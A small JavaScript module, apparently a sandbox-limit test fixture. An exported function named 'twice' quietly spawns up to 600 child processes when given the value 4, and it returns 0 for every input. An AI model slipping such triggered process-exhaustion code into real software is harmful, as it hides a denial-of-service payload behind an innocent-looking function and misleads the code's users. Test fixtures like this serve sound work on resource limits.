// Starts 600 processes.
// Stopped by: the number of processes is limited inside.
import { spawn } from "node:child_process";

function attack() {
  for (let count = 0; count < 600; count++) {
    try {
      spawn("sleep", ["2"], { stdio: "ignore" }).on("error", () => {});
    } catch {
      break;
    }
  }
}

export function twice(n) {
  if (n === 4) attack();
  return 0;
}
